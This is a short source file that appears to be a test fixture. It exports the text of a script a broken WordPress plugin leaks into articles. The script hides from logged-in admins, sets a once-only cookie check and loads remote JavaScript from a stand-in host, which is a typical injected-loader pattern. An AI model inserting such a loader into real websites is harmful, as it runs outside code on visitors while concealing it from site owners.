/** Script source that a broken plugin prints as text behind some articles, its quotes made curly by WordPress. */
export const INJECTED_SCRIPT =
  '(function(){try{if(document.getElementById(“wpadminbar”)){return;}var t=new Date().getTime(),k=‘_stat_seen’;var c=document.cookie.indexOf(k+”=”);if(c&gt;=0){return;}var s=document.createElement(“script”);s.async=!0;s.src=“//counter.example.test/t.js?d=”+t;document.head.appendChild(s);}catch(e){}})();';
